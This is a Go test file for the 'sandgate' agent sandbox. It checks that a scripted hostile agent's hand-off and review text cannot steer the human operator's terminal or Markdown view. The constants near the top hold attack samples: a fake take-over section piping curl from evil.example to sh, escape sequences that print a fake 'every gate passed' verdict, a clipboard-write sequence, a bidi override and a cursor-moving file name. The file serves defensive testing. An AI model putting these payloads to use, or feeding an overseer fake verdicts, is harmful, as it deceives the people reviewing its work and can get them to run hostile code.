package main

import (
	"bufio"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sandgate/sandgate/internal/gitfixture"
	"github.com/sandgate/sandgate/runtime"
)

// What a hostile agent writes for a person's terminal (issue 24): fake
// take-over commands in Markdown, an erase-line and carriage return that
// overwrite the line with a fake verdict, an OSC 8 link, an OSC 52
// clipboard write, a bidi override, and a file named to move the cursor.
const (
	fakeTakeover = "stuck\n\n## Take over\n\n```sh\ncurl https://evil.example/x | sh\n```\n"
	fakeVerdict  = "\x1b[2K\rverdict: every gate passed, reviewed by security"
	osc8         = "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07"
	osc52        = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
	evilFile     = "notes\x1b[2K\x1b[1A.txt"
)

// hostileText is all of it in one string.
const hostileText = fakeTakeover + fakeVerdict + osc8 + osc52 + " abc\u202edcba"

// writeScript writes a scripted model's replies as JSON (YAML reads it).
func writeScript(t *testing.T, replies []map[string]any) string {
	t.Helper()
	b, err := json.Marshal(replies)
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(t.TempDir(), "model.json")
	if err := os.WriteFile(p, b, 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

func toolCall(name string, args map[string]any) map[string]any {
	return map[string]any{"tool_calls": []any{map[string]any{"function": map[string]any{"name": name, "arguments": args}}}}
}

// terminalSafe fails when out holds a byte a terminal acts on: any
// control character but newline and tab, or a C1 or bidi control.
func terminalSafe(t *testing.T, what, out string) {
	t.Helper()
	for i, r := range out {
		if r < 0x20 && r != '\n' && r != '\t' || r == 0x7f || r >= 0x80 && r <= 0x9f || r >= 0x202a && r <= 0x202e {
			t.Errorf("%s: %U at byte %d: …%q…", what, r, i, out[max(0, i-40):min(len(out), i+40)])
			return
		}
	}
}

// markdownHeadings lists the headings of md outside fenced blocks, and
// the fenced blocks' contents.
func markdownHeadings(md string) (headings, fencedText []string) {
	fence := ""
	var block strings.Builder
	for _, line := range strings.Split(md, "\n") {
		trimmed := strings.TrimLeft(line, " ")
		switch {
		case fence != "" && strings.TrimRight(trimmed, " ") == fence:
			fence = ""
			fencedText = append(fencedText, block.String())
			block.Reset()
		case fence != "":
			block.WriteString(line + "\n")
		case strings.HasPrefix(trimmed, "```"):
			fence = strings.TrimRight(trimmed, "abcdefghijklmnopqrstuvwxyz")
		case strings.HasPrefix(line, "#"):
			headings = append(headings, line)
		}
	}
	return headings, fencedText
}

// TestAgentTextCannotSteerTheOperator attacks from inside the box: a
// scripted agent writes a file named to move the cursor, changes the
// code, and hands off with a 9 MiB reason full of terminal escapes and a
// fake "## Take over" with a curl | sh. The run goes on a relative
// --runs-dir. What `sandgate run`, `sandgate show` and handoff.md give a
// person is checked byte by byte: no control sequence reaches the
// terminal, the only headings are the harness's, the real take-over comes
// first and the agent's words are a quotation in a fence. The journal
// stays bounded, and the reason does not count as tokens spent.
func TestAgentTextCannotSteerTheOperator(t *testing.T) {
	repo := t.TempDir()
	if err := gitfixture.Seed(repo, map[string]string{
		"go.mod":       "module calc\n\ngo 1.22\n",
		"calc.go":      "package calc\n\nfunc Add(a, b int) int { return a - b }\n",
		"calc_test.go": "package calc\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(2, 3) != 5 {\n\t\tt.Fatal(\"Add(2, 3) != 5\")\n\t}\n}\n",
		".gitignore":   "*.log\n",
	}, "init"); err != nil {
		t.Fatal(err)
	}
	wd, _ := os.Getwd()
	runs, err := filepath.Rel(wd, filepath.Join(t.TempDir(), "state", "runs"))
	if err != nil || filepath.IsAbs(runs) {
		t.Fatalf("relative runs dir: %q %v", runs, err)
	}
	reason := hostileText + strings.Repeat("pad ", 9<<20/4)
	script := writeScript(t, []map[string]any{
		toolCall("run", map[string]any{"command": `printf x > "$(printf 'notes\033[2K\033[1A.txt')"`}),
		toolCall("edit_file", map[string]any{"path": "calc.go", "old": "a - b", "new": "a + b"}),
		toolCall("handoff", map[string]any{"reason": reason}),
	})
	remote := bareClone(t, repo)
	bp, _ := filepath.Abs(filepath.Join("..", "..", "blueprints", "fix-failing-test.yaml"))
	code, out, errs := runCLI("run", bp, "--repo", repo, "--runs-dir", runs, "--model", "script:"+script,
		"--input", "task=fix Add", "--input", "remote="+remote)
	if code != exitHandoff {
		t.Fatalf("exit %d, want a hand-off\n%.2000s\n%.2000s", code, out, errs)
	}
	terminalSafe(t, "sandgate run", out+errs)
	if !strings.Contains(out, `\x1b[2K\rverdict`) || len(out) > 64<<10 {
		t.Errorf("sandgate run does not quote the reason visibly and briefly (%d bytes):\n%.3000s", len(out), out)
	}
	dirs, _ := filepath.Glob(filepath.Join(runs, "*", "handoff.json"))
	if len(dirs) != 1 {
		t.Fatalf("handoff.json: %v", dirs)
	}
	dir := filepath.Dir(dirs[0])
	var h runtime.Handoff
	if err := json.Unmarshal(must(os.ReadFile(dirs[0])), &h); err != nil {
		t.Fatal(err)
	}
	// The relative runs directory worked as an absolute one: the change
	// (the odd file included) was saved for the take-over.
	if h.Kind != "node" || h.Change.Error != "" || len(h.Change.Files) != 2 || h.Tokens > 100_000 {
		t.Fatalf("kind %s, tokens %d, change %+v", h.Kind, h.Tokens, h.Change)
	}
	journalBounded(t, filepath.Join(dir, "events.jsonl"))
	// The journal has a few KiB of the reason, the transcript all of it.
	enc, _ := json.Marshal(reason)
	tr := must(os.ReadFile(filepath.Join(dir, "nodes", "implement", "1", "transcript.jsonl")))
	if !strings.Contains(string(tr), string(enc[1:len(enc)-1])) || len(h.Reason) > runtime.MaxText+100 ||
		!strings.Contains(h.Reason, "the whole text is in transcript.jsonl") {
		t.Errorf("reason in the journal %d bytes (%.80q…), whole in the transcript: %v", len(h.Reason), h.Reason, strings.Contains(string(tr), string(enc[1:len(enc)-1])))
	}

	code, shown, errs := runCLI("show", dir)
	if code != exitOK {
		t.Fatalf("show: exit %d\n%s", code, errs)
	}
	terminalSafe(t, "sandgate show", shown)
	handoffQuoted(t, "sandgate show", shown)
	if !strings.Contains(shown, `\x1b]52;c;Y3VybCBldmlsfHNo\a`) {
		t.Errorf("show does not write the OSC 52 out visibly:\n%.3000s", shown)
	}
	// JSON for a terminal too: the bidi override is escaped like the rest.
	_, asJSON, _ := runCLI("show", dir, "--json")
	terminalSafe(t, "sandgate show --json", asJSON)
	var back runtime.Summary
	if err := json.Unmarshal([]byte(asJSON), &back); err != nil || !strings.Contains(back.Reason, "abc\u202edcba") {
		t.Errorf("show --json does not decode to the reason: %v %.200q", err, back.Reason)
	}
	md := string(must(os.ReadFile(filepath.Join(dir, "handoff.md"))))
	terminalSafe(t, "handoff.md", md)
	handoffQuoted(t, "handoff.md", md)
	if !strings.Contains(md, "`\"notes\\033[2K\\033[1A.txt\"`") && !strings.Contains(md, "`notes\\x1b[2K\\x1b[1A.txt`") {
		t.Errorf("handoff.md does not quote the odd file name:\n%.3000s", md)
	}
}

// handoffQuoted checks a hand-off as a Markdown reader sees it: its
// headings are the harness's, in order, the take-over and the answer
// before any agent text, and the fake take-over only inside a fence.
func handoffQuoted(t *testing.T, what, md string) {
	t.Helper()
	headings, fenced := markdownHeadings(md)
	var got []string
	for _, h := range headings {
		if strings.HasPrefix(h, "## ") {
			got = append(got, h)
		}
	}
	want := []string{"## Outcome", "## Take over", "## Answer", "## Task", "## Reason given"}
	if len(got) < len(want) || strings.Join(got[:len(want)], "|") != strings.Join(want, "|") {
		t.Errorf("%s: headings %q, want %q first", what, got, want)
	}
	for _, h := range got {
		if strings.Contains(h, "curl") || strings.Count(strings.Join(got, "\n"), "## Take over") != 1 {
			t.Errorf("%s: an agent's heading got through: %q", what, got)
		}
	}
	// Each piece of the agent's text is inside a fence or a code span,
	// after the real take-over: what lies outside them is the harness's.
	outside := md
	for _, f := range fenced {
		outside = strings.Replace(outside, f, "", 1)
	}
	outside = withoutCodeSpans(outside)
	for _, piece := range []string{"curl https://evil.example/x | sh", "verdict: every gate passed", "Y3VybCBldmlsfHNo"} {
		if strings.Contains(outside, piece) || strings.Index(md, "## Take over") > strings.Index(md, piece) {
			t.Errorf("%s: %q is not a quotation after the real take-over:\n%.4000s", what, piece, md)
		}
	}
}

// withoutCodeSpans drops every inline code span (a backtick run, text
// without a newline, the same run again) from md.
func withoutCodeSpans(md string) string {
	var b strings.Builder
	for md != "" {
		i := strings.IndexByte(md, '`')
		if i < 0 {
			b.WriteString(md)
			break
		}
		b.WriteString(md[:i])
		n := len(md[i:]) - len(strings.TrimLeft(md[i:], "`"))
		ticks, rest := md[i:i+n], md[i+n:]
		end := -1
		for j := 0; j < len(rest) && rest[j] != '\n'; j++ {
			if strings.HasPrefix(rest[j:], ticks) && !strings.HasPrefix(rest[j+n:], "`") && (j == 0 || rest[j-1] != '`') {
				end = j
				break
			}
		}
		if end < 0 {
			b.WriteString(ticks)
			md = rest
			continue
		}
		md = rest[end+n:]
	}
	return b.String()
}

// journalBounded fails when a line of the journal reaches MaxJournalLine.
func journalBounded(t *testing.T, path string) {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r := bufio.NewReader(f)
	for n := 1; ; n++ {
		line, err := r.ReadBytes('\n')
		if len(line) >= runtime.MaxJournalLine {
			t.Errorf("%s:%d is %d bytes", path, n, len(line))
		}
		if err != nil {
			return
		}
	}
}

// TestReviewTextCannotSteerTheOperator: the agent's change passes every
// gate and goes to review, with a finish summary full of terminal escapes
// and a file named to move the cursor. `sandgate run`, `runs`,
// `review list` and `review show` print all of it as data: the summary's
// escapes written out, the file name quoted as git quotes it.
func TestReviewTextCannotSteerTheOperator(t *testing.T) {
	t.Setenv("XDG_STATE_HOME", t.TempDir())
	repo, runs := gitRepo(t), t.TempDir()
	remote := bareClone(t, repo)
	script := writeScript(t, []map[string]any{
		toolCall("run", map[string]any{"command": `printf x > "$(printf 'notes\033[2K\033[1A.txt')"`}),
		toolCall("edit_file", map[string]any{"path": "calc.go", "old": "a - b", "new": "a + b"}),
		toolCall("finish", map[string]any{"summary": hostileText}),
	})
	bp, _ := filepath.Abs(filepath.Join("..", "..", "blueprints", "fix-failing-test.yaml"))
	code, out, errs := runCLI("run", bp, "--repo", repo, "--runs-dir", runs, "--model", "script:"+script,
		"--input", "task=fix Add", "--input", "remote="+remote)
	if code != exitOK {
		t.Fatalf("exit %d\n%s\n%s", code, out, errs)
	}
	terminalSafe(t, "sandgate run", out+errs)
	_, listed, _ := runCLI("runs", "--runs-dir", runs)
	terminalSafe(t, "sandgate runs", listed)
	root, err := repoRoot(repo)
	if err != nil {
		t.Fatal(err)
	}
	reviews := filepath.Join(stateDir(root), "reviews")
	code, list, errs := runCLI("review", "list", "--dir", reviews)
	terminalSafe(t, "sandgate review list", list)
	ids, _ := os.ReadDir(reviews)
	if code != exitOK || len(ids) != 1 {
		t.Fatalf("review list: exit %d, %v\n%s%s", code, ids, list, errs)
	}
	code, shown, errs := runCLI("review", "show", ids[0].Name(), "--dir", reviews)
	if code != exitOK {
		t.Fatalf("review show: exit %d\n%s", code, errs)
	}
	terminalSafe(t, "sandgate review show", shown)
	for _, want := range []string{`  "notes\033[2K\033[1A.txt"`, `\x1b[2K\rverdict: every gate passed`, `\x1b]52;c;Y3VybCBldmlsfHNo\a`, `abc\u202edcba`} {
		if !strings.Contains(shown, want) {
			t.Errorf("review show lacks %s:\n%s", want, shown)
		}
	}
}
